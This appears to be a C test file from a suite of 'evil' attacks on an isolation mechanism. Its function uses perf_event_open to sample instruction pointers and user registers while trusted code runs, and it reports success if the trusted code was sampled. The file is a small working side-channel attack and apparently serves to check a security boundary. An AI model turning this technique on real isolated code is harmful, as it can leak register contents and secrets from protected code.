// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
//
// A16b: the kernel's profiler takes the registers of trusted code at every tick.
#include "evil.h"

#include <linux/perf_event.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#define PAGE 4096U
#define DATA_PAGES 64

int evil_perf(const struct evil_target *target) {
    struct perf_event_attr attributes = {.type = PERF_TYPE_SOFTWARE,
                                         .size = sizeof attributes,
                                         .config = PERF_COUNT_SW_CPU_CLOCK,
                                         .sample_period = 1000000,
                                         .sample_type = PERF_SAMPLE_IP | PERF_SAMPLE_REGS_USER,
                                         .sample_regs_user = UINT64_C(1) << 8, // ip
                                         .exclude_kernel = 1};
    int fd = (int)syscall(SYS_perf_event_open, &attributes, 0, -1, -1, 0);
    struct perf_event_mmap_page *page;
    const unsigned char *data;
    unsigned samples = 0;

    if (fd < 0)
        return evil_failed("perf_event_open");
    page = mmap(NULL, (size_t)(DATA_PAGES + 1) * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (page == MAP_FAILED)
        return evil_failed("mmap of the samples");
    target->call_trusted();
    ioctl(fd, PERF_EVENT_IOC_DISABLE, 0);
    data = (const unsigned char *)page + PAGE;
    for (uint64_t at = 0; at < page->data_head && at < (uint64_t)DATA_PAGES * PAGE;) {
        struct perf_event_header header;
        uint64_t ip;

        memcpy(&header, data + at, sizeof header);
        memcpy(&ip, data + at + sizeof header, sizeof ip);
        if (header.type == PERF_RECORD_SAMPLE && ip - (uintptr_t)target->trusted < target->trusted_size)
            samples++;
        if (header.size == 0)
            break;
        at += header.size;
    }
    if (samples == 0)
        return evil_failed_because("no sample of trusted code was taken");
    return evil_succeeded("sampled the registers of trusted code");
}
